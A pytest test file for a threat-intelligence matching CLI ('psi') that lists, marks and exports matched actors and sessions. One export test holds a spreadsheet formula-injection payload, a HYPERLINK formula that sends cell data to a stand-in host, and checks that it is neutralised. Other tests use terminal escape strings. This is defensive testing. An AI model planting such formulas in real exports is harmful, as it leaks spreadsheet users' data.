"""`psi matches`, `psi sessions`, `psi actors`: what was found, judged and exported."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path
from typing import Any

import pytest

from psi_client.cli import exporting
from psi_client.cli.own_file import FileFormat
from psi_client.cli.own_values import own_rows
from psi_core.kinds.labels import FIELDS
from tests.commands import FakeNode, Turns, lines, run_psi

LAB = "lab-b.example"


def row(actor: str, **other: Any) -> dict[str, Any]:
    key = {"match_key": "email", "matched": 1, "total": 2, "shared": 3, "status": "to review", "new": True}
    return {
        "actor": actor,
        "peer": LAB,
        "matched": ["email"],
        "of": 2,
        "strength": "medium",
        "why": ["one personal kind", "email shared by 3"],
        "first_seen": "2026-02-03T00:00:00Z",
        "last_seen": "2026-10-30T00:00:00Z",
        "tlp": "amber",
        "status": "to review",
        "new": True,
        "match_keys": [key],
        **other,
    }


def exported(actor: str) -> dict[str, str]:
    names = (
        "actor",
        "peer",
        "matched",
        "of",
        "strength",
        "why",
        "first_seen",
        "last_seen",
        "tlp",
        "status",
        "new",
        *(f"peer_{name}" for name in FIELDS),
    )
    return dict.fromkeys(names, "x") | {"actor": actor, "peer": LAB, "strength": "medium"}


def parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_long_list_is_cut_in_the_table_alone(node: FakeNode) -> None:
    node.answers["GET /v1/matches"] = [row(f"acct-{number}") for number in range(60)]
    shown = run_psi("matches", "--profile", node.profile).stdout
    assert "acct-49" in shown
    assert "acct-50" not in shown
    assert "50 of 60 overlapping actors, the strongest; --limit 60 shows all" in shown
    assert "acct-59" in run_psi("matches", "--limit", "60", "--profile", node.profile).stdout
    assert len(json.loads(run_psi("matches", "--json", "--profile", node.profile).stdout)) == 60


def test_the_list_is_what_psi_matches_shows(node: FakeNode) -> None:
    node.answers["GET /v1/matches"] = [row("acct-1"), row("[i]acct-2\x07")]
    expected = [
        "actor             peer            matched   of   strength   first seen   last seen    status",
        "acct-1            lab-b.example   email      2   medium     2026-02-03   2026-10-30   to review",
        "[i]acct-2\\x07     lab-b.example   email      2   medium     2026-02-03   2026-10-30   to review",
        "2 overlapping actors",
    ]
    shown = [lines(run_psi("matches", *words, "--profile", node.profile).stdout) for words in ((), ("list",))]
    assert [[" ".join(line.split()) for line in found] for found in shown] == [
        [" ".join(line.split()) for line in expected]
    ] * 2


def test_what_a_peer_says_stands_under_its_name(node: FakeNode) -> None:
    labels = {
        "severity": "high",
        "campaign": "silver fox",
        "first_seen": "2026-01-19",
        "confidence": 80,
        "tlp": "amber",
    }
    node.answers["GET /v1/matches"] = [row("acct-1", labels=labels), row("acct-2", labels={})]
    shown = run_psi("matches", "--profile", node.profile, COLUMNS="250").stdout.splitlines()
    assert shown[0].split()[-2:] == ["status", LAB]
    assert shown[1].endswith("to review   high; silver fox; first seen 2026-01-19; confidence 80; TLP amber")
    assert shown[2].split()[-1] == "-"
    node.answers["POST /v1/matches/show"] = [row("acct-1", labels=labels)]
    shown = lines(run_psi("matches", "show", "acct-1", "--profile", node.profile).stdout)
    assert f"{LAB} says   high; silver fox; first seen 2026-01-19; confidence 80; TLP amber" in shown


def test_filters_reach_the_node_from_either_side(node: FakeNode) -> None:
    node.answers["GET /v1/matches"] = []
    words = ("--peer", LAB, "--session", "8f0c" * 8, "--status", "false positive", "--all", "--new")
    for place in (("matches", *words), ("matches", "list", *words)):
        assert run_psi(*place, "--profile", node.profile).stdout == "No match to show.\n"
        assert node.requests[-1].query == {
            "peer": [LAB],
            "session": ["8f0c" * 8],
            "status": ["false positive"],
            "include_false_positives": ["true"],
            "only_new": ["true"],
        }


def test_one_actor_says_why(node: FakeNode) -> None:
    node.answers["POST /v1/matches/show"] = Turns([[row("acct-1")], []])
    shown = lines(run_psi("matches", "show", "acct-1", "--profile", node.profile).stdout)
    assert "why        one personal kind; email shared by 3" in shown
    assert shown[-1].split() == ["email", "1", "of", "2", "3", "to", "review", "yes"]
    assert node.requests[0].json == {"reference": "acct-1"}
    assert "No match to show." in run_psi("matches", "show", "acct-2", "--profile", node.profile).stdout


def test_marking(node: FakeNode) -> None:
    node.answers["POST /v1/matches/mark"] = row("acct-1", status="false positive")
    words = ("matches", "mark", "acct-1", "false positive", "--peer", LAB, "--match-key", "email")
    assert run_psi(*words, "--profile", node.profile).stdout == f"acct-1 and {LAB}: false positive\n"
    assert node.requests[0].json == {
        "reference": "acct-1",
        "peer": LAB,
        "status": "false positive",
        "match_key": "email",
    }
    assert run_psi("matches", "mark", "acct-1", "guilty", "--peer", LAB).exit_code == 2


def test_matrix_and_rules(node: FakeNode) -> None:
    node.answers |= {
        "GET /v1/matches/matrix": {
            "match_keys": ["card", "email"],
            "peers": [{"peer": LAB, "actors": 412, "by_match_key": {"card": 120, "email": 1390}}],
        },
        "GET /v1/matches/rules": [
            {"strength": "strong", "words": "two kinds"},
            {"strength": None, "words": "rare"},
        ],
    }
    assert [
        line.split() for line in lines(run_psi("matches", "matrix", "--profile", node.profile).stdout)
    ] == [
        ["peer", "actors", "card", "email"],
        [LAB, "412", "120", "1,390"],
    ]
    assert lines(run_psi("matches", "rules", "--profile", node.profile).stdout)[1:] == [
        "strong     two kinds",
        "rarity     rare",
    ]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
@pytest.mark.parametrize("to_file", [False, True])
def test_no_cell_of_an_export_is_run_as_a_formula(
    node: FakeNode, tmp_path: Path, sign: str, to_file: bool
) -> None:
    formula = f'{sign}HYPERLINK("https://x.example/?"&A1);=1+1'
    node.answers["POST /v1/matches/export"] = [
        exported(formula) | {"peer_campaign": formula, "peer_label": "a=1", "why": 'say "hi", twice'}
    ]
    out = tmp_path / "matches.csv"
    where = ("--out", str(out)) if to_file else ()
    result = run_psi("matches", "export", *where, "--profile", node.profile)
    text = out.read_bytes().decode() if to_file else result.stdout
    (found,) = csv.DictReader(io.StringIO(text, newline=""))
    assert (found["actor"], found["peer_campaign"]) == (f"'{formula}", f"'{formula}")
    assert (found["peer_label"], found["why"]) == ("a=1", 'say "hi", twice')
    # Every cell is quoted: a separator inside one begins no other.
    assert all(cell.startswith('"') for cell in text.split("\n")[0].split(","))
    assert f'"\'{sign}HYPERLINK(""https' in text


def test_export_is_csv_on_standard_output_or_in_a_file_of_ones_own(node: FakeNode, tmp_path: Path) -> None:
    node.answers["POST /v1/matches/export"] = [exported("acct-1"), exported("acct-2")]
    words = ("matches", "export", "--peer", LAB, "--status", "confirmed", "--profile", node.profile)
    result = run_psi(*words)
    assert parsed(result.stdout) == [exported("acct-1"), exported("acct-2")]
    assert node.requests[0].json == {"peer": LAB, "status": "confirmed"}
    out = tmp_path / "matches.csv"
    quiet = run_psi(*words, "--out", out)
    assert (quiet.stdout, out.read_text(), stat.S_IMODE(out.stat().st_mode)) == ("", result.stdout, 0o600)
    assert json.loads(run_psi(*words, "--json").stdout) == {
        "matches": [exported("acct-1"), exported("acct-2")]
    }


VALUES = (
    'actor,Kind,value,label\nacct-1,email,ada@example.org,\nacct-3,email,never@sent.org,\n acct-2 ,IBAN,"DE\n89",\n'
    "acct-1,email\n"
)


def test_values_come_from_the_labs_own_file_and_only_matched_actors_leave_it(
    node: FakeNode, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "own.csv").write_text(VALUES)
    first = {"actor": "acct-1", "kind": "email", "value": "ada@example.org"}
    second = {"actor": "acct-2", "kind": "iban", "value": "DE\n89"}
    monkeypatch.setattr(exporting, "BATCH_BYTES", 1)
    node.answers |= {
        "POST /v1/matches/export": [exported("acct-1"), exported("acct-2")],
        "POST /v1/matches/values": Turns(
            [
                {"values": [{**first, "peer": LAB, "match_keys": ["email", "email_mailbox"]}], "unread": 0},
                {"values": [], "unread": 1},
            ]
        ),
    }
    words = (
        "matches",
        "export",
        "--values",
        tmp_path / "own.csv",
        "--region",
        "DE",
        "--profile",
        node.profile,
    )
    result = run_psi(*words)
    assert [asked.json for asked in node.asked("POST /v1/matches/values")] == [
        {"rows": [each], "region": "DE", "include_false_positives": False} for each in (first, second)
    ]
    (found,) = parsed(result.stdout)
    assert (found["actor"], found["value"], found["match_keys"], found["strength"]) == (
        *("acct-1", "ada@example.org", "email; email_mailbox", "medium"),
    )
    assert "1 rows of" in result.stderr
    assert not [asked for asked in node.requests if b"never@sent.org" in asked.body]


@pytest.mark.parametrize(
    ("name", "content", "mapping", "expected"),
    [
        (
            "wide.csv",
            "id,mail,phone_no,note\na,ada@x.org,,hi\nb,bob@x.org,1,\na,,2,\n",
            {"mail": "email", "phone_no": "phone", "id": "actor"},
            [("a", "email", "ada@x.org"), ("a", "phone", "2")],
        ),
        (
            "long.jsonl",
            '{"actor": "a", "kind": "card", "value": ["4242", 17]}\nnot json\n[1]\n{"actor": "b"}\n'
            '{"actor": "a", "kind": "asn", "value": 64500, "label": "x"}\n{"actor": "a", "value": "no kind"}\n',
            {},
            [("a", "card", "4242"), ("a", "card", "17"), ("a", "asn", "64500")],
        ),
        ("empty.csv", "", {}, []),
    ],
)
def test_own_files_are_read_as_they_were_imported(
    tmp_path: Path, name: str, content: str, mapping: dict[str, str], expected: list[tuple[str, str, str]]
) -> None:
    (tmp_path / name).write_text(content)
    found = own_rows(tmp_path / name, FileFormat.of(tmp_path / name), mapping, None, {"a"})
    assert [(row["actor"], row["kind"], row["value"]) for row in found] == expected


def session(name: str, **other: Any) -> dict[str, Any]:
    lane = {"match_key": "email", "engine": "openmined", "own_size": 5120, "peer_size": None, "matched": None}
    lane["run"] = None
    return {
        "session_id": name,
        "agreement": "7f3a" * 16,
        "peer": LAB,
        "role": "responder",
        "state": "refused",
        "direction": "both",
        "reveal": "items",
        "period": 0,
        "counter": 3,
        "started": "2026-11-24T09:30:00Z",
        "finished": None,
        "reason": "refused by lab-b.example: [red]no\x1b",
        "lanes": [lane],
        "actors": None,
        "new_actors": None,
        **other,
    }


def test_a_suspended_session_is_shown_with_its_time_and_given_up(node: FakeNode) -> None:
    name = "8f0c" * 8
    until = {"done_percent": 63, "resume_until": "2026-11-25T09:30:00Z"}
    broken = session(name, role="initiator", state="suspended", reason=None, **until)
    ended = session(name, state="aborted", reason="given up by a person")
    node.answers |= {
        "GET /v1/sessions": [broken],
        f"GET /v1/sessions/{name}": broken,
        f"POST /v1/sessions/{name}/give-up": ended,
    }
    words = "broke off at 63 %; until 2026-11-25 09:30 (UTC) it goes on with the next psi match like it"
    assert f"8f0c8f0c {words}" in lines(run_psi("sessions", "--profile", node.profile).stdout)
    assert words in run_psi("sessions", "show", "8f0c", "--profile", node.profile).stdout
    given_up = run_psi("sessions", "give-up", "8f0c", "--profile", node.profile)
    assert given_up.exit_code == 0, given_up.output
    assert "given up by a person" in given_up.stdout


def test_sessions_are_listed_and_shown_by_the_beginning_of_their_id(node: FakeNode) -> None:
    one, two = "8f0c" * 8, "8f1d" * 8
    node.answers |= {
        "GET /v1/sessions": [session(one), session(two)],
        f"GET /v1/sessions/{one}": session(one),
    }
    shown = run_psi("sessions", "--profile", node.profile).stdout
    assert "8f0c8f0c refused by lab-b.example: [red]no\\x1b" in lines(shown)
    whole = run_psi("sessions", "show", "8F0C", "--profile", node.profile).stdout
    assert f"session     {one}" in whole
    assert "5,120" in whole
    for name, words in (("8f", "the first 4"), ("8f0x", "the first 4"), ("1234", "begins like that; see")):
        result = run_psi("sessions", "show", name, "--profile", node.profile)
        assert (result.exit_code, words in result.stderr) == (1, True), result.stderr
    node.answers["GET /v1/sessions"] = [session(one), session("8f0c" + "00" * 14)]
    assert "give more digits" in run_psi("sessions", "show", "8f0c", "--profile", node.profile).stderr
    node.answers["GET /v1/sessions"] = []
    assert "No session has run yet" in run_psi("sessions", "list", "--profile", node.profile).stdout


def test_actors_by_page_and_one(node: FakeNode) -> None:
    actor = {
        "reference": "acct-1",
        "created": "2026-11-24T09:30:00Z",
        "kinds": [{"kind": "email", "count": 2, "derived": 0}, {"kind": "iban", "count": 1, "derived": 0}],
        "indicators": 3,
        "first_seen": None,
        "last_seen": "2026-10-30T00:00:00Z",
    }
    node.answers |= {
        "GET /v1/actors": {"actors": [actor], "total": 5000, "next": 17},
        "POST /v1/actors/show": actor,
    }
    words = ("actors", "list", "--limit", "1", "--after", "16", "--kind", "email", "--profile", node.profile)
    shown = lines(run_psi(*words).stdout)
    assert shown[1].split("   ")[-1].strip() == "2026-10-30"
    assert "email (2), iban" in shown[1]
    assert shown[2] == "1 of 5,000 actors   more: psi actors list --after 17"
    assert node.requests[0].query == {"limit": ["1"], "after": ["16"], "kind": ["email"]}
    assert "known since   2026-11-24" in run_psi("actors", "show", "acct-1", "--profile", node.profile).stdout
    assert json.loads(run_psi("actors", "--json", "--profile", node.profile).stdout)["total"] == 5000
